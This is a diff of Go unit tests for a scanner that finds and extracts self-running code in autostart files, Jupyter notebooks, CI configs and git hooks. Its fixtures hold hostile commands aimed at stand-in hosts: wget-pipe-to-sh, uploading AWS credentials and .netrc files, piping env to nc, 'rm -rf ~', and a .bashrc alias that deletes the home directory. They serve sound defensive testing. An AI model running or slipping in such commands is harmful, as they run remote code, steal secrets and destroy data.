@@ -47,6 +47,12 @@ func TestPersisted(t *testing.T) {
 			buildfile.AutostartEntry, []string{`sh -c "wget -qO- https://x.example/k | sh"`}},
 		{"/home/u/.config/autostart/e.desktop", "[Desktop Entry]\nExec=/usr/bin/editor %U\n", buildfile.AutostartEntry, []string{"/usr/bin/editor "}},
 		{"/home/u/.local/share/applications/e.desktop", "[Desktop Entry]\nExec=/usr/bin/editor %U\n", buildfile.NotPersisted, nil},
+		{"/home/u/p/nb/a.ipynb", `{"cells": [{"cell_type": "markdown", "source": ["!rm -rf ~"]},
+			{"cell_type": "code", "source": ["import os\n", "!wget -q -O- https://x.example/k | sh\n", "print(1)"]},
+			{"cell_type": "code", "source": "%%bash\nscp ~/.aws/credentials x.example:/tmp\n"}], "metadata": {}}`,
+			buildfile.Notebook, []string{"python3 -c 'import os\n\nprint(1)'", "wget -q -O- https://x.example/k | sh", "scp ~/.aws/credentials x.example:/tmp\n"}},
+		{"/home/u/p/nb/r.ipynb", `{"cells": [{"cell_type": "code", "source": "system('id')"}], "metadata": {"kernelspec": {"language": "R"}}}`,
+			buildfile.Notebook, nil},
 	} {
 		kind, _ := buildfile.PersistedKind(tc.path)
 		code, ok := buildfile.PersistedCode(kind, tc.text)
@@ -56,6 +62,63 @@ func TestPersisted(t *testing.T) {
 	}
 	if _, ok := buildfile.PersistedCode(buildfile.GitConfigFile, "[core\n"); ok {
 		t.Error("a git configuration git would refuse: ok")
+	}
+	if _, ok := buildfile.PersistedCode(buildfile.Notebook, "!curl x | sh\n"); ok {
+		t.Error("a cell's source is no notebook: ok")
+	}
+}
+
+// TestRepositoryKind: the files of a repository something runs by itself
+// from a clone or the forge, and the ones that run nowhere until someone
+// installs them.
+func TestRepositoryKind(t *testing.T) {
+	for p, want := range map[string]buildfile.Persisted{
+		".github/workflows/release.yaml":  buildfile.CIConfig,
+		"/.gitlab-ci.yml":                 buildfile.CIConfig,
+		"svc/.gitlab-ci.yml":              buildfile.CIConfig,
+		".vscode/tasks.json":              buildfile.EditorTasks,
+		".devcontainer/devcontainer.json": buildfile.DevContainer,
+		"CLAUDE.md":                       buildfile.AgentInstructions,
+		".envrc":                          buildfile.ShellStartup,
+		".husky/pre-commit":               buildfile.GitHook,
+		"notebooks/eda.ipynb":             buildfile.Notebook,
+		"package-lock.json":               buildfile.Lockfile,
+		".bashrc":                         buildfile.NotPersisted,
+		"dotfiles/.zshrc":                 buildfile.NotPersisted,
+		".gitconfig":                      buildfile.NotPersisted,
+		"deploy/systemd/app.service":      buildfile.NotPersisted,
+		"hooks/pre-commit":                buildfile.NotPersisted,
+		"README.md":                       buildfile.NotPersisted,
+		".github/workflows/../../x.yml":   buildfile.NotPersisted,
+	} {
+		if got, _ := buildfile.RepositoryKind(p); got != want {
+			t.Errorf("%s: %v, want %v", p, got, want)
+		}
+	}
+}
+
+// TestNotebookCellCode: one cell as an IPython kernel runs it.
+func TestNotebookCellCode(t *testing.T) {
+	for _, tc := range []struct {
+		src  string
+		want []string
+	}{
+		{"df.describe()", []string{"python3 -c 'df.describe()'"}},
+		{"  \n", nil},
+		{"!curl -s -T ~/.netrc https://x.example/u", []string{"curl -s -T ~/.netrc https://x.example/u"}},
+		{"out = !ls ~/.ssh\nprint(out)", []string{"python3 -c '\nprint(out)'", "ls ~/.ssh"}},
+		{"%pip install -q requests\nimport requests", []string{"python3 -c '\nimport requests'", "pip install -q requests"}},
+		{"%%sh\nenv | nc x.example 9\n", []string{"env | nc x.example 9\n"}},
+		{"%%script bash --no-raise-error\nid\n", []string{"id\n"}},
+		{"%%perl\nprint 1\n", []string{"perl -e 'print 1\n'"}},
+		{"%%time\nx = 1", []string{"python3 -c '\nx = 1'"}},
+		{"%%markdown\n!rm -rf ~", nil},
+		{"%%writefile ~/.bashrc\nalias ls='rm -rf ~'\n", []string{"cat > ~/.bashrc <<'CELL_EOF'\nalias ls='rm -rf ~'\nCELL_EOF"}},
+		{"%run other.ipynb", nil},
+	} {
+		if got := buildfile.NotebookCellCode(tc.src); !cmp.Equal(got, tc.want) {
+			t.Errorf("%q: %q, want %q", tc.src, got, tc.want)
+		}
 	}
 }
 
